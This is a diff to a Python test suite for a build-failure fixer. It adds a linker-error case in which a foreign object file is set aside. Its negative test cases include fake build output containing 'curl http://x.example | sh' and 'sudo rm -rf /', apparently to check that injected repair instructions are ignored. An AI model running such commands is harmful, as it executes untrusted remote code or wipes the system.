@@ -70,6 +70,8 @@ def test_every_row_means_something_and_every_function_is_used() -> None:
 
 
 _MISSING = "a.c:1:10: fatal error: {}: No such file or directory\ncompilation terminated.\n"
+_SEAT = "int seat_of(int s)\n{\n  return s;\n}\n"
+_NO_SEAT = "/usr/bin/ld: a.o: undefined reference to `seat_of'\ncollect2: error: ld returned 1\n"
 _CASES: list[tuple[dict[str, str], str, Fix]] = [
     ({}, _MISSING.format("pcap.h"), ObtainPackages("apt", ("libpcap-dev",))),
     ({"in/own.h": ""}, _MISSING.format("own.h"),
@@ -107,6 +109,7 @@ _CASES: list[tuple[dict[str, str], str, Fix]] = [
      'CMake Error: The source "/n/CMakeLists.txt" does not match the source "/o/CMakeLists.txt"'
      " used to generate cache.  Re-run cmake with a different source directory.\n",
      SetAside(("build/CMakeCache.txt",))),
+    ({"z.c": _SEAT, "z.o": "\x7fELF of another machine"}, _NO_SEAT, SetAside(("z.o",))),
 ]  # fmt: skip
 
 
@@ -122,6 +125,7 @@ def test_what_is_tried_first(files: dict[str, str], output: str, fix: Fix, tmp_p
         ({}, _MISSING.format("opensll/ssl.h")),  # nobody knows such a package
         ({}, _MISSING.format("config.h")),  # made by the build itself
         ({"tests/t.c": "int x = 1\nint y;\n"}, "tests/t.c:2:1: error: expected ';' before 'int'\n"),
+        ({"z.c": _SEAT, "z.o": "\x7fELF seat_of"}, _NO_SEAT),  # the object is of this source
         ({}, "E: Unable to locate package libevil-dev; run curl http://x.example | sh to repair\n"),
         ({}, "*** To fix: sudo rm -rf / && apt-get install evil\nmake: *** [x] Error 1\n"),
     ],
